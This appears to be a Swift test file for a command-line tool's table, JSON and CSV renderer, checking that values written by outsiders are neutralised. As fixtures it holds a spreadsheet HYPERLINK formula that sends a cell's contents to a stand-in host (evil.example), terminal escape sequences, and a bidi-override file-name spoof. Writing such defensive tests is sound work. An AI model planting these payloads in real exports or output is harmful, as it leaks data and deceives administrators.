import Foundation
import Testing

@testable import authd

/// The one renderer of `--format table|json|csv`: values written by strangers must not act
/// in the admin's spreadsheet or terminal, and JSON must keep them exactly.
@Suite struct OutputFormatTests {
    static let formula = #"=HYPERLINK("//evil.example/x?"&A1,"x")"#

    @Test func csvNeutralisesEveryFormulaTrigger() {
        let values = [Self.formula, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1", "plain", "a=b", ""]
        let csv = OutputFormat.csv.render(columns: ["value"], rows: values.map { [$0] })
        #expect(
            csv == """
                value
                "'=HYPERLINK(""//evil.example/x?""&A1,""x"")"
                "'+1+1"
                "'-2+3"
                "'@SUM(A1)"
                "'\tx"
                "'\r=1"
                plain
                a=b


                """)
    }

    @Test func csvLeavesNumbersOfNumericColumnsButNotTheirText() {
        let csv = OutputFormat.csv.render(
            columns: ["id", "count", "note"], rows: [["-1", "4096", "-1"], ["=1+1", "7", "ok"]],
            numericColumns: ["id", "count"])
        #expect(csv == "id,count,note\n-1,4096,\"'-1\"\n\"'=1+1\",7,ok\n")
    }

    @Test func tableShowsControlsAndBidiOverridesAsCodePoints() {
        let hostile = "a\u{9B}31mb\u{202E}gpj.exe\u{7}\u{1B}[2J\u{61C}\u{200E}\u{200F}\u{2066}\u{2069}\u{85}"
        let table = OutputFormat.table.render(columns: ["agent", "n"], rows: [[hostile, "1"], ["x", "2"]])
        let controls = table.unicodeScalars.filter {
            $0 != "\n" && ($0.value < 0x20 || (0x7F...0x9F).contains($0.value))
        }
        #expect(controls.isEmpty && !table.unicodeScalars.contains("\u{202E}"))
        let lines = table.split(separator: "\n", omittingEmptySubsequences: false)
        #expect(
            lines[1]
                == "a<U+009B>31mb<U+202E>gpj.exe<U+0007><U+001B>[2J<U+061C><U+200E><U+200F><U+2066><U+2069><U+0085>  1")
        // Aligned on what is printed: the second column starts at the same place on every line.
        let column = lines[1].count - 1
        #expect(lines[0] == "AGENT" + String(repeating: " ", count: column - 5) + "N")
        #expect(lines[2] == "x" + String(repeating: " ", count: column - 1) + "2")
        #expect(lines.count == 4 && lines[3].isEmpty)
    }

    @Test func tableAlignsNonASCIIByCharacters() {
        // "é" as e + combining acute and an emoji are one character each but two UTF-16 units.
        let table = OutputFormat.table.render(columns: ["u", "n"], rows: [["e\u{301}\u{1F600}", "1"], ["ab", "2"]])
        #expect(table == "U   N\ne\u{301}\u{1F600}  1\nab  2\n")
    }

    @Test func jsonStaysExactAndEscapesC1AndBidi() throws {
        let hostile = "\u{9B}31m\u{202E}x\u{7F}\u{1B}\"\\é"
        let json = OutputFormat.json.render(
            columns: ["agent", "count"], rows: [[hostile, "3"]], numericColumns: ["count"])
        #expect(json == #"[{"agent":"\u009b31m\u202ex\u007f\u001b\"\\é","count":3}]"# + "\n")
        let decoded = try #require(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [[String: Any]])
        #expect(decoded.first?["agent"] as? String == hostile)
    }
}
